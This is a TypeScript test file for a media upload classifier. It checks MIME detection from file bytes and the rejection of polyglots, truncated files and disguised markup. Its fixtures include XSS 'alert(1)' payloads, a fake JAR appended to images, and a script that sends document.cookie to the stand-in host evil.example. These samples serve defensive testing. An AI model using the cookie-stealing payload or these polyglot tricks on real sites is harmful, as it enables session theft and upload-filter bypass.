import { execFileSync } from 'node:child_process';
import { copyFile, mkdir, readFile, writeFile } from 'node:fs/promises';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { classify, detectType, MediaRejected, type MediaRejectReason } from '../../server/src/modules/media/processing/index.js';
import { gifEnd, jpegEnd, pngEnd } from '../../server/src/modules/media/processing/structure.js';
import {
  alphaPng,
  appendTo,
  audioOnlyMp4,
  lavfiVideo,
  noisyJpeg,
  tempDir,
  truncateTo,
  zipOf,
  type TempDir,
} from '../support/media-fixtures.js';

let t: TempDir;
const f = (name: string) => t.path(name);

async function reason(path: string, opts = {}): Promise<MediaRejectReason | 'accepted'> {
  try {
    await classify(path, opts);
    return 'accepted';
  } catch (err) {
    if (err instanceof MediaRejected) return err.reason;
    throw err;
  }
}

async function rejection(path: string): Promise<MediaRejected> {
  const err = await classify(path).then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(MediaRejected);
  return err as MediaRejected;
}

beforeAll(async () => {
  t = tempDir();
  const small = (ch: 3 | 4) => sharp({ create: { width: 120, height: 80, channels: ch, background: '#777', noise: { type: 'gaussian', mean: 120, sigma: 30 } } });
  await noisyJpeg(f('photo.jpg'), { width: 320, height: 240, gps: true });
  await alphaPng(f('alpha.png'), 200, 100);
  await small(3).webp().toFile(f('pic.webp'));
  await small(3).avif().toFile(f('pic.avif'));
  await small(3).tiff().toFile(f('pic.tiff'));
  await lavfiVideo(f('anim.gif'), { seconds: 0.5, width: 64, height: 48, rate: 10, audio: false, vcodec: [] });
  await lavfiVideo(f('clip.mp4'), { seconds: 1, width: 160, height: 120 });
  await lavfiVideo(f('clip.mov'), { seconds: 1, width: 160, height: 120 });
  await lavfiVideo(f('clip.3gp'), { seconds: 1, width: 176, height: 144, acodec: ['-c:a', 'aac', '-ar', '16000', '-ac', '1'] });
  await lavfiVideo(f('clip.webm'), { seconds: 1, width: 160, height: 120, vcodec: ['-c:v', 'libvpx', '-deadline', 'realtime'], acodec: ['-c:a', 'libopus'] });
  await lavfiVideo(f('clip.mkv'), { seconds: 1, width: 160, height: 120, audio: false });
  await lavfiVideo(f('clip.avi'), { seconds: 1, width: 160, height: 120, audio: false, vcodec: ['-c:v', 'mpeg4'] });
  await lavfiVideo(f('faststart.mp4'), { seconds: 2, width: 160, height: 120, faststart: true });
  await audioOnlyMp4(f('audio.mp4'), 1);
}, 60_000);

afterAll(() => t?.remove());

describe('detectType: the type from the bytes', () => {
  it.each([
    ['photo.jpg', 'image/jpeg', 'image'],
    ['alpha.png', 'image/png', 'image'],
    ['pic.webp', 'image/webp', 'image'],
    ['pic.avif', 'image/avif', 'image'],
    ['anim.gif', 'image/gif', 'image'],
    ['clip.mp4', 'video/mp4', 'video'],
    ['clip.mov', 'video/quicktime', 'video'],
    ['clip.3gp', 'video/3gpp', 'video'],
    ['clip.webm', 'video/webm', 'video'],
    ['clip.mkv', 'video/matroska', 'video'],
    // Accepted as a container: that it holds no video is processVideo's no_video_stream.
    ['audio.mp4', 'video/mp4', 'video'],
  ])('%s is %s (%s)', async (name, mime, kind) => {
    expect(await detectType(f(name))).toMatchObject({ mime, kind });
  });

  it('ignores the name: a JPEG called .png and a PNG called .mp4 are what their bytes say', async () => {
    await copyFile(f('photo.jpg'), f('looks-like.png'));
    await copyFile(f('alpha.png'), f('looks-like.mp4'));
    expect(await detectType(f('looks-like.png'))).toMatchObject({ mime: 'image/jpeg', kind: 'image' });
    expect(await detectType(f('looks-like.mp4'))).toMatchObject({ mime: 'image/png', kind: 'image' });
  });

  it('zero bytes: null, and classify says empty', async () => {
    await writeFile(f('empty.jpg'), Buffer.alloc(0));
    expect(await detectType(f('empty.jpg'))).toBeNull();
    expect(await reason(f('empty.jpg'))).toBe('empty');
  });

  it('refuses what is not a regular file (a FIFO would block a reader for ever; a directory)', async () => {
    execFileSync('mkfifo', [f('pipe.jpg')]);
    await mkdir(f('dir.jpg'));
    expect(await detectType(f('pipe.jpg'))).toBeNull();
    expect(await reason(f('dir.jpg'))).toBe('unsupported_type');
  });

  it('refuses types outside the list: TIFF, AVI, SVG (scripts), HTML, text', async () => {
    await writeFile(f('evil.svg'), '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>');
    await writeFile(f('page.jpg'), '<!doctype html><html><body><script>alert(1)</script></body></html>');
    await writeFile(f('notes.jpg'), 'just some text, nothing else');
    for (const name of ['pic.tiff', 'clip.avi', 'evil.svg', 'page.jpg', 'notes.jpg']) {
      expect(await detectType(f(name)), name).toBeNull();
      expect(await reason(f(name)), name).toBe('unsupported_type');
    }
  });

  it('refuses a file whose magic bytes the decoder does not back up (JPEG magic, HTML body)', async () => {
    await writeFile(f('fake.jpg'), Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from('<html><script>alert(1)</script></html>')]));
    // WebP's RIFF header with a valid length around bytes no WebP decoder reads.
    const junk = Buffer.alloc(64, 0x41);
    const riff = Buffer.concat([Buffer.from('RIFF'), Buffer.alloc(4), Buffer.from('WEBPVP8 '), Buffer.from([56, 0, 0, 0]), junk.subarray(0, 56)]);
    riff.writeUInt32LE(riff.length - 8, 4);
    await writeFile(f('fake.webp'), riff);
    expect(await detectType(f('fake.jpg'))).toBeNull();
    expect(await detectType(f('fake.webp'))).toBeNull();
    expect(await reason(f('fake.jpg'))).toBe('unsupported_type');
    expect(['unsupported_type', 'corrupt']).toContain(await reason(f('fake.webp')));
  });

  it('over maxBytes: too_large, before anything is decoded', async () => {
    expect(await reason(f('photo.jpg'), { maxBytes: 1000 })).toBe('too_large');
    expect(await reason(f('clip.mp4'), { maxBytes: 1000 })).toBe('too_large');
  });
});

describe('polyglots', () => {
  const jar = zipOf({ 'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0\nMain-Class: Evil\n', 'Evil.class': 'not really a class' });
  const html = Buffer.from('<html><body><script>document.location="https://evil.example/?c="+document.cookie</script></body></html>');

  it('refuses a JPEG with a ZIP after it, a GIF with a JAR after it (GIFAR), a PNG with HTML after it, an MP4 with a ZIP after it', async () => {
    await appendTo(f('photo.jpg'), f('jpeg-zip.jpg'), jar);
    await appendTo(f('anim.gif'), f('gifar.gif'), jar);
    await appendTo(f('alpha.png'), f('png-html.png'), html);
    await appendTo(f('photo.jpg'), f('jpeg-html.jpg'), html);
    await appendTo(f('faststart.mp4'), f('mp4-zip.mp4'), jar);
    await appendTo(f('pic.webp'), f('webp-html.webp'), html);
    for (const name of ['jpeg-zip.jpg', 'gifar.gif', 'png-html.png', 'jpeg-html.jpg', 'mp4-zip.mp4', 'webp-html.webp']) {
      // Each decodes fine as what it starts with, which is why the decoder alone is not enough.
      expect(await detectType(f(name)), name).toBeNull();
      const err = await rejection(f(name));
      expect(err.reason, name).toBe('unsupported_type');
      expect(err.detail, name).toMatch(/polyglot/);
    }
  });

  it('refuses a ZIP hidden inside the image structure: a PNG chunk holding an archive whose end record reaches the end of the file', async () => {
    // The archive's comment (16 bytes) covers the chunk's CRC and the IEND chunk, so a ZIP reader finds it from the end.
    const zip = zipOf({ 'a.txt': 'hidden' });
    zip.writeUInt16LE(16, zip.length - 2);
    const png = await readFile(f('alpha.png'));
    const iend = png.length - 12;
    const len = Buffer.alloc(4);
    len.writeUInt32BE(zip.length);
    const body = Buffer.concat([Buffer.from('zIPp'), zip]);
    const { crc32 } = await import('node:zlib');
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body) >>> 0);
    await writeFile(f('png-inner-zip.png'), Buffer.concat([png.subarray(0, iend), len, body, crc, png.subarray(iend)]));
    // The PNG itself is intact (its structure ends at the end of the file, sharp decodes it).
    expect(pngEnd(await readFile(f('png-inner-zip.png')))).toEqual({ ok: true, end: (await readFile(f('png-inner-zip.png'))).length });
    await expect(sharp(f('png-inner-zip.png')).metadata()).resolves.toMatchObject({ format: 'png' });
    const err = await rejection(f('png-inner-zip.png'));
    expect(err.reason).toBe('unsupported_type');
    expect(err.detail).toMatch(/ZIP/);
  });

  it('refuses markup or a PDF header near the start (a JPEG comment segment holding HTML, or %PDF)', async () => {
    const jpg = await readFile(f('photo.jpg'));
    const com = (text: string) => {
      const body = Buffer.from(text);
      const seg = Buffer.alloc(4);
      seg.writeUInt16BE(0xfffe, 0);
      seg.writeUInt16BE(body.length + 2, 2);
      return Buffer.concat([jpg.subarray(0, 2), seg, body, jpg.subarray(2)]);
    };
    await writeFile(f('com-html.jpg'), com('<script>alert(1)</script>'));
    await writeFile(f('com-pdf.jpg'), com('%PDF-1.4 1 0 obj'));
    for (const name of ['com-html.jpg', 'com-pdf.jpg']) {
      await expect(sharp(f(name)).metadata(), name).resolves.toMatchObject({ format: 'jpeg' });
      expect((await rejection(f(name))).detail, name).toMatch(/polyglot/);
    }
  });

  it('refuses a "motion photo" (a JPEG with an MP4 after it): the client must send the still', async () => {
    await appendTo(f('photo.jpg'), f('motion.jpg'), await readFile(f('clip.mp4')));
    const err = await rejection(f('motion.jpg'));
    expect(err.reason).toBe('unsupported_type');
    expect(err.detail).toMatch(/video\/mp4/);
  });

  it('refuses a trailer it cannot name when it is large (over 64 KiB), or holds a ZIP entry without the archive end record', async () => {
    const { randomBytes } = await import('node:crypto');
    await appendTo(f('photo.jpg'), f('big-trailer.jpg'), Buffer.concat([Buffer.from('XXXX'), randomBytes(70 * 1024)]));
    expect((await rejection(f('big-trailer.jpg'))).detail).toMatch(/more than 65536 bytes/);
    // A ZIP's first entry alone (no central directory): ZIP headers in the trailer.
    const entry = jar.subarray(0, jar.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])));
    await appendTo(f('photo.jpg'), f('zip-entry.jpg'), Buffer.concat([Buffer.from('junk'), entry]));
    expect((await rejection(f('zip-entry.jpg'))).detail).toMatch(/ZIP headers/);
  });

  it("tolerates a small opaque vendor trailer (a Samsung-style SEFH/SEFT block): nothing known, no markup, under 64 KiB", async () => {
    const block = Buffer.concat([Buffer.from('\x00\x00\x0a\x01Image_UTC_Data1700000000000', 'latin1'), Buffer.from('SEFH'), Buffer.alloc(24, 7), Buffer.from('SEFT')]);
    await appendTo(f('photo.jpg'), f('vendor.jpg'), Buffer.concat([Buffer.from([0x12, 0x34]), block]));
    expect(await detectType(f('vendor.jpg'))).toMatchObject({ mime: 'image/jpeg' });
  });

  it('accepts what cameras legitimately append: zero padding, and further complete JPEGs (multi-picture previews)', async () => {
    await appendTo(f('photo.jpg'), f('padded.jpg'), Buffer.alloc(2048));
    const preview = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#345' } }).jpeg().toBuffer();
    await appendTo(f('photo.jpg'), f('mpf.jpg'), Buffer.concat([preview, Buffer.alloc(16)]));
    expect(await detectType(f('padded.jpg'))).toMatchObject({ mime: 'image/jpeg' });
    expect(await detectType(f('mpf.jpg'))).toMatchObject({ mime: 'image/jpeg' });
  });
});

describe('truncated files', () => {
  it.each([
    ['photo.jpg', 0.6],
    ['alpha.png', 0.6],
    ['anim.gif', 0.5],
    ['pic.webp', 0.7],
    // moov after mdat (as phones write): the index is gone.
    ['clip.mp4', 0.6],
    // moov first: ffprobe still reports the full duration; the box walk sees mdat run past the end.
    ['faststart.mp4', 0.6],
    ['clip.webm', 0.5],
  ])('%s cut to %d of its length: truncated', async (name, fraction) => {
    const cut = f(`cut-${fraction}-${name}`);
    await truncateTo(f(name), cut, fraction);
    expect(await reason(cut)).toBe('truncated');
    expect(await detectType(cut)).toBeNull();
  });
});

describe('format walkers', () => {
  it('find the exact end of whole files', async () => {
    const jpg = await readFile(f('photo.jpg'));
    const png = await readFile(f('alpha.png'));
    const gif = await readFile(f('anim.gif'));
    expect(jpegEnd(jpg)).toEqual({ ok: true, end: jpg.length });
    expect(pngEnd(png)).toEqual({ ok: true, end: png.length });
    expect(gifEnd(gif)).toEqual({ ok: true, end: gif.length });
  });

  it('skip an EXIF segment that itself contains an end-of-image marker', async () => {
    const jpg = await readFile(f('photo.jpg'));
    const payload = Buffer.concat([Buffer.from('Exif\0\0'), Buffer.from([0xff, 0xd8, 0xff, 0xd9]), Buffer.alloc(32)]);
    const seg = Buffer.alloc(4);
    seg.writeUInt16BE(0xffe1, 0);
    seg.writeUInt16BE(payload.length + 2, 2);
    const withThumb = Buffer.concat([jpg.subarray(0, 2), seg, payload, jpg.subarray(2)]);
    expect(jpegEnd(withThumb)).toEqual({ ok: true, end: withThumb.length });
  });
});
